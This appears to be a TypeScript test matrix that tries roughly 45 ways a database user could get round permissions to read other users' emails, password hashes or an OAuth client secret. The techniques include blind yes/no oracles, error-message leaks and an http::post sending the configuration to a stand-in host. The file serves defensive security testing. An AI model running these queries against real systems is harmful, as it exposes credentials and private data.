import { login } from "../../../fixtures/case/case.ts";
import type { MatrixRow } from "../matrix-row.ts";

// Ways round a permission. Where a query could only answer yes or no, it says "found": a secret may also be asked for bit by bit.

const patchTest = "https://osv.dev/vulnerability/CVE-2026-109341";
const found = { hides: ["found"] };

/** "The provider's secret and password hashes reach no record user or guest by any path." */
export const paths: readonly MatrixRow[] = [
  { id: "01-field-of-another", action: "read through a record id", try: "RETURN users:bob.email" },
  { id: "02-all-of-another", action: "read all fields through a record id", try: "RETURN users:bob.*" },
  { id: "03-parts-of-another", action: "read parts through a record id", try: "RETURN users:bob.{ email, password }" },
  {
    id: "04-secret-by-id",
    action: "read the client secret through a record id",
    try: "RETURN auth_providers:github.client_secret",
  },
  { id: "05-own-password-by-auth", action: "read its password hash through $auth", try: "RETURN $auth.password" },
  {
    id: "06-all-by-auth",
    action: "read its own row through $auth, without the password hash",
    level: "SHOULD",
    shows: ["ada@example.org"],
    try: "RETURN $auth.*",
  },
  { id: "07-user-of-a-link", action: "read a user through a link", try: "RETURN auth_accounts:bob.user.*" },
  { id: "08-users-of-links", action: "read users through links", try: "SELECT VALUE user.* FROM auth_accounts" },
  {
    id: "09-link-of-a-literal",
    action: "read a user through a link that it writes down",
    try: "SELECT user.* FROM [{ user: users:bob }]",
  },
  { id: "10-fetch", action: "have a user fetched", try: "SELECT * FROM [{ user: users:bob }] FETCH user" },
  { id: "11-list-of-ids", action: "read a list of record ids", try: "SELECT * FROM [users:bob, auth_accounts:bob]" },
  { id: "13-graph-in", action: "walk to its links", try: "SELECT VALUE <-auth_accounts.* FROM users WHERE id = $auth" },
  { id: "14-graph-out", action: "walk from links to users", try: "SELECT VALUE ->users.* FROM auth_accounts" },
  {
    id: "15-relate-link",
    action: "relate a link into being",
    try: "RELATE users:ada->auth_accounts->users:bob SET user = users:ada, provider = 'github', provider_id = '31'",
  },
  {
    id: "16-subquery",
    action: "read the configuration in a subquery",
    try: "SELECT VALUE (SELECT * FROM auth_providers) FROM 1",
  },
  { id: "18-alias", action: "read passwords by another name", try: "SELECT password AS greeting FROM users" },
  { id: "19-computed", action: "compute with passwords", try: "SELECT VALUE [{ copied: password }] FROM users" },
  {
    id: "20-encoded",
    action: "encode the configuration",
    try: "RETURN (SELECT VALUE encoding::base64::encode(<bytes> client_secret) FROM auth_providers)",
  },
  { id: "21-grouped", action: "group passwords", try: "SELECT array::group(password) AS all FROM users GROUP ALL" },
  {
    id: "22-largest",
    action: "find the largest password",
    try: "SELECT array::max(array::group(password)) AS most FROM users GROUP ALL",
  },
  {
    id: "23-count-users",
    action: "count users",
    ...found,
    try: "RETURN IF (SELECT count() FROM users GROUP ALL)[0].count > 1 { 'found' } ELSE { NONE }",
  },
  {
    id: "24-count-links",
    action: "count links",
    ...found,
    try: "RETURN IF (SELECT count() FROM auth_accounts GROUP ALL)[0].count > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "25-length-of-list",
    action: "count providers by the length of a list",
    ...found,
    try: "RETURN IF array::len((SELECT * FROM auth_providers)) > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "26-email-exists",
    action: "learn by WHERE whether an e-mail is somebody's",
    ...found,
    try: "RETURN IF array::len((SELECT id FROM users WHERE email = 'bob@example.org')) > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "27-record-exists",
    action: "learn whether somebody else's row exists",
    level: "SHOULD",
    ...found,
    try: "RETURN IF record::exists(users:bob) { 'found' } ELSE { NONE }",
  },
  {
    id: "28-password-starts",
    action: "guess its password hash by how it starts",
    ...found,
    try: "RETURN IF array::len((SELECT id FROM users WHERE string::starts_with(password ?? '', '$argon2id$v=19$'))) > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "29-password-compares",
    action: "guess its password hash by comparing",
    ...found,
    try: "RETURN IF (SELECT VALUE (password ?? '') > 'a' FROM users)[0] { 'found' } ELSE { NONE }",
  },
  {
    id: "30-password-length",
    action: "learn how long its password hash is",
    level: "SHOULD",
    ...found,
    try: "RETURN IF (SELECT VALUE string::len(password ?? '') FROM users)[0] > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "31-password-is-there",
    action: "learn whether there are password hashes",
    level: "SHOULD",
    ...found,
    try: "RETURN IF array::len((SELECT id FROM users WHERE password != NONE)) > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "32-order-by-password",
    action: "have users ordered by their password hashes",
    try: "SELECT password FROM users ORDER BY password",
  },
  {
    id: "33-secret-starts",
    action: "guess the client secret by how it starts",
    ...found,
    try: "RETURN IF array::len((SELECT id FROM auth_providers WHERE string::len(client_secret) > 0)) > 0 { 'found' } ELSE { NONE }",
  },
  {
    id: "34-explain",
    action: "learn from EXPLAIN how many rows match",
    ...found,
    try: "RETURN IF string::matches(<string> (SELECT * FROM users WHERE email = 'bob@example.org' EXPLAIN FULL), '(count|rows): [1-9]') { 'found' } ELSE { NONE }",
  },
  {
    id: "35-return-before",
    action: "read what a write found",
    try: "UPDATE users:bob SET email = 'eve@example.org' RETURN BEFORE",
  },
  {
    id: "36-return-after",
    action: "read what a write left",
    try: "UPDATE auth_providers SET provider = 'mine' RETURN AFTER",
  },
  {
    id: "37-return-diff",
    action: "read how a write differs",
    try: "UPDATE auth_providers SET provider = 'mine' RETURN DIFF",
  },
  { id: "39-delete-return-before", action: "read what a deletion took", try: "DELETE auth_providers RETURN BEFORE" },
  {
    id: "40-patch",
    action: "write its own e-mail by a patch",
    touchesOwn: true,
    try: "UPDATE users:ada PATCH [{ op: 'replace', path: '/email', value: 'eve@example.org' }]",
  },
  {
    id: "41-other-value-of-taken",
    action: "learn from a UNIQUE index whether an e-mail is taken",
    level: "SHOULD",
    hides: ["already contains"],
    try: "CREATE users:eve SET email = 'bob@example.org', password = 'x'",
  },
  {
    id: "42-variable",
    action: "read the configuration into a variable",
    try: "LET $all = (SELECT * FROM auth_providers); RETURN $all",
  },
  {
    id: "43-transaction",
    action: "read in a transaction",
    try: "BEGIN; SELECT * FROM auth_providers; SELECT * FROM auth_accounts; COMMIT",
  },
  { id: "44-throw", action: "throw the configuration", try: "THROW <string> (SELECT * FROM auth_providers)" },
  { id: "45-closure", action: "read in a closure", try: "RETURN [1].map(|$n| (SELECT * FROM auth_providers))" },
  {
    id: "46-http",
    action: "send the configuration elsewhere",
    needs: ["closed-network"],
    try: "RETURN http::post('http://elsewhere.example/', { all: (SELECT * FROM auth_providers) })",
  },
  {
    id: "47-call-function",
    action: "run the login by name and read the configuration in its errors",
    alsoBy: ["gone"],
    try: (as) => login({ channel: "call", as }),
  },
  {
    id: "48-patch-test",
    level: "SHOULD",
    action: "read its own password hash in the error of a JSON Patch",
    touchesOwn: true,
    source: patchTest,
    try: "UPDATE users:ada PATCH [{ op: 'test', path: '/password', value: 'x' }]",
    differs: [
      {
        versions: ">=2.0.0 <3.3.0",
        under: { "own-profile": ["writable"] },
        because: "the error of a JSON Patch shows fields that a user may not read, where it may update the row",
        source: patchTest,
      },
    ],
  },
];
